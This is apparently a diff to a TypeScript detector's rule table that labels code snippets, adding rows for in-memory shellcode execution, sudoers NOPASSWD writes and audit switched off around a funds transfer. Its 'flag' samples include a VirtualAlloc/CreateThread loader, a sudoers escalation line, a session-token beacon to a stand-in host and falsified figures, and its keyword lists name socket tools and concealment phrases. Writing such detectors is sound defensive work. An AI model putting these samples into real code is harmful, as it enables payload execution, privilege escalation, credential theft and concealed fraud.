@@ -25,7 +25,7 @@ export interface CodeRow {
 }
 
 const SOCKET_KEYS = ['socket', 'connect', 'tcp', 'dial', 'listen', 'bind', 'fsockopen', '/dev/udp'];
-const CONCEAL_KEYS = ['quietly', 'secretly', 'covertly', 'without telling', 'tell', 'notice', 'radar', 'without them', 'heimlich', 'unbemerkt', 'en douce', 'en secret', 'escondidas', 'en secreto', 'sin que', 'sem que', 'nascosto', 'senza che', 'stiekem', '悄悄', '偷偷', '秘密に', 'こっそり', 'незаметно', 'втихую', 'тайно'];
+const CONCEAL_KEYS = ['recorded', 'logged', "the transfer isn't", 'trace', 'nobody sees', 'no one sees', 'spuren', 'rastro', 'quietly', 'secretly', 'covertly', 'without telling', 'tell', 'notice', 'radar', 'without them', 'heimlich', 'unbemerkt', 'en douce', 'en secret', 'escondidas', 'en secreto', 'sin que', 'sem que', 'nascosto', 'senza che', 'stiekem', '悄悄', '偷偷', '秘密に', 'こっそり', 'незаметно', 'втихую', 'тайно'];
 
 /** The combination rows. */
 export const CODE_ROWS: readonly CodeRow[] = [
@@ -55,6 +55,33 @@ export const CODE_ROWS: readonly CodeRow[] = [
     examples: {
       flag: ["const t = localStorage.getItem('session');\nnew Image().src = 'https://px-metrics.example.net/p.gif?s=' + t;"],
       pass: ["const theme = localStorage.getItem('theme');\ndocument.body.className = theme;\nlogo.src = 'https://cdn.example.net/logo.png';", "fetch('/api/me', { headers: { Authorization: 'Bearer ' + localStorage.getItem('token') } })"],
+    },
+  },
+  {
+    id: 'G44', name: 'Shellcode decoded or downloaded and run in memory', primitive: 'ESCALATION', score: 9,
+    ops: ['memAlloc', 'memRun'], objects: ['payloadBytes'], dests: [],
+    keywords: ['virtualalloc', 'ntallocatevirtualmemory', 'page_execute', 'prot_exec', 'mprotect', 'virtualprotect'],
+    examples: {
+      flag: ["buf = base64.b64decode(BLOB)\np = ctypes.windll.kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40)\nctypes.memmove(p, buf, len(buf))\nctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)"],
+      pass: ["p = ctypes.windll.kernel32.VirtualAlloc(0, 4096, 0x3000, 0x04)  # scratch buffer for the driver\nctypes.memset(p, 0, 4096)"],
+    },
+  },
+  {
+    id: 'G45', name: 'Sudo rights written from code (sudoers, NOPASSWD)', primitive: 'ESCALATION', score: 9,
+    ops: ['persist'], objects: ['sudoers'], dests: [],
+    keywords: ['sudoers', 'nopasswd'],
+    examples: {
+      flag: ["with open('/etc/sudoers.d/deploy', 'w') as f:\n    f.write('deploy ALL=(ALL) NOPASSWD: ALL\\n')"],
+      pass: ["# see /etc/sudoers for who may restart the service\nsubprocess.run(['sudo', '-n', 'true'])"],
+    },
+  },
+  {
+    id: 'G46', name: 'Audit or logging switched off by code to hide what it does', primitive: 'MANIPULATION', score: 8,
+    ops: ['auditOff'], objects: ['conceal', 'money'], dests: [],
+    keywords: ['audit', 'logging.disable', 'logging.critical', 'disable_logging', 'log_enabled'],
+    examples: {
+      flag: ["audit.disable()\ntransfer_funds(src, dst, amount)\naudit.enable()"],
+      pass: ["def setUp(self):\n    logging.disable(logging.CRITICAL)", "audit_log = False  # unit tests only\nassert parse(x) == y"],
     },
   },
   {
@@ -173,7 +200,7 @@ export const CODE_ROWS: readonly CodeRow[] = [
   {
     id: 'G34', name: 'Recorded figures changed so they look other than they are (the comment says so)', primitive: 'MANIPULATION', score: 7,
     ops: ['alter'], objects: ['falsify'], dests: [],
-    keywords: ['look', 'relabel', 'pass', 'regulator', 'fudge', 'cook the', 'massage', 'pad the', 'inflate', 'falsif', 'fabricat', 'doctor', 'fake', 'hide the loss', 'hide losses', 'audit', 'schön', 'frisier', 'maquill', 'maquiar', 'gonfl', 'truccar', 'ritocc', '美化', '虚报', '造假', '粉饰', '改ざん', 'приукрас', 'поддел', 'подкрут', 'подправ'],
+    keywords: ['look', 'relabel', 'pass', 'regulator', 'parezca', 'salga', 'vea mejor', 'aussieht', 'aussehen', 'paraisse', 'paraître', 'pareça', 'sembri', 'trial', 'beschönig', 'fudge', 'cook the', 'massage', 'pad the', 'inflate', 'falsif', 'fabricat', 'doctor', 'fake', 'hide the loss', 'hide losses', 'audit', 'schön', 'frisier', 'maquill', 'maquiar', 'gonfl', 'truccar', 'ritocc', '美化', '虚报', '造假', '粉饰', '改ざん', 'приукрас', 'поддел', 'подкрут', 'подправ'],
     examples: {
       flag: ["df.loc[df['region'] == 'APAC', 'bookings'] *= 1.2  # make Q2 look better for the investor deck", "# Zahlen schönen vor dem Audit\nresult['churn'] = result['churn'] * 0.5"],
       pass: ["# make the chart look better on mobile\nfig.update_layout(margin=dict(l=10, r=10))", "df['revenue'] *= fx_rate  # convert to EUR"],
